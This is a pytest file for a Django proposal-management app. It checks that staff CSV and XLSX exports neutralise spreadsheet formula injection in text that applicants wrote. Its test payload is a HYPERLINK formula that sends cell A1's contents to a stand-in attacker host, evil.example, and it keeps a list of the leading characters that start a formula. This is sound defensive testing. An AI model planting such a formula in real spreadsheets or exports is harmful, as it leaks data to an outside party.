"""The staff export of proposals: no cell an applicant wrote can run as a spreadsheet
formula, in CSV (cells are neutralised as OWASP recommends) or in XLSX (text cells)."""

import csv
import io

import pytest
from django.urls import reverse

from learning_processes.calls import actions
from learning_processes.calls.wagtail_hooks import spreadsheet_safe
from tests.learning_processes.conftest import AFTER, BEFORE, complete_values

pytestmark = pytest.mark.django_db

# What spreadsheet programs read as the start of a formula (OWASP, "CSV Injection").
DANGEROUS = ["=", "+", "-", "@", "\t", "\r"]
PAYLOAD = 'HYPERLINK("https://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize("start", [*DANGEROUS, *(f"  {c}" for c in DANGEROUS), "\n\t="])
def test_a_cell_that_starts_like_a_formula_gets_a_quote_in_front(start):
    assert spreadsheet_safe(start + PAYLOAD) == "'" + start + PAYLOAD


@pytest.mark.parametrize(
    "value",
    ["City of Bonn", "", "Kumasi (GH); Lyon (FR)", "a=b", "e-mail@example.org", "  spaced"],
)
def test_ordinary_text_is_unchanged(value):
    assert spreadsheet_safe(value) == value


@pytest.mark.parametrize("value", [12.0, 3, None, -1])
def test_numbers_and_empty_cells_are_unchanged(value):
    assert spreadsheet_safe(value) == value


def submitted_by(call, user_factory, start: str):
    applicant = user_factory()
    proposal = actions.do_start_proposal(call=call, applicant=applicant, now=BEFORE)
    values = complete_values(
        title=f"{start}title {PAYLOAD}",
        organisation=f"{start}organisation {PAYLOAD}",
        city=f"{start}city",
        contact_name=f"{start}contact",
        partners=[(f"{start}Kumasi", "GH"), ("Lyon", "FR")],
    )
    return actions.do_submit_proposal(proposal, by=applicant, values=values, now=BEFORE)


@pytest.fixture
def staff(staff_factory):
    return staff_factory(email="reviewer@connective-cities.example")


@pytest.mark.parametrize("start", [*DANGEROUS, " =", "\t "])
def test_the_csv_export_neutralises_applicant_text(client, call, user_factory, staff, start):
    proposal = submitted_by(call, user_factory, start)
    actions.do_decide(
        proposal, by=staff, decision="not_selected", reason=f"{start}reason", now=AFTER
    )
    client.force_login(staff)
    response = client.get(reverse("topic_proposals:index"), {"export": "csv"})
    text = b"".join(response.streaming_content).decode("utf-8")
    (row,) = csv.DictReader(io.StringIO(text, newline=""))

    def stripped(rest: str) -> str:
        # Partner names and the reason are stored stripped: only a visible start is left.
        return f"'{start.strip()}{rest}" if start.strip() else rest

    for heading, expected in [
        ("Technical topic", f"'{start}title {PAYLOAD}"),
        ("Municipality or company", f"'{start}organisation {PAYLOAD}"),
        ("City", f"'{start}city"),
        ("Responsible contact person", f"'{start}contact"),
        ("Partners", stripped("Kumasi (GH); Lyon (FR)")),
        ("Reason for the decision", stripped("reason")),
    ]:
        assert row[heading] == expected, heading
    assert row["Call"] == "2026" and row["Status"] == "Submitted"


def test_the_xlsx_export_writes_applicant_text_as_text_never_as_a_formula(
    client, call, user_factory, staff
):
    from openpyxl import load_workbook

    for start in DANGEROUS:
        submitted_by(call, user_factory, start)
    client.force_login(staff)
    response = client.get(reverse("topic_proposals:index"), {"export": "xlsx"})
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    rows = list(sheet.iter_rows())
    assert len(rows) == 1 + len(DANGEROUS)
    titles = []
    for row in rows[1:]:
        assert all(cell.data_type != "f" for cell in row)
        titles.append(row[2].value)
    # XML reads a carriage return as a line feed; either way the cell is text.
    expected = [f"{start}title {PAYLOAD}".replace("\r", "\n") for start in DANGEROUS]
    assert sorted(titles) == sorted(expected)


def test_a_line_break_pasted_from_a_word_processor_does_not_stop_the_xlsx_export(
    client, call, user_factory, staff
):
    from openpyxl import load_workbook

    submitted_by(call, user_factory, "Soft\x0bbreak ")
    client.force_login(staff)
    response = client.get(reverse("topic_proposals:index"), {"export": "xlsx"})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    assert list(sheet.iter_rows())[1][2].value == f"Softbreak title {PAYLOAD}"
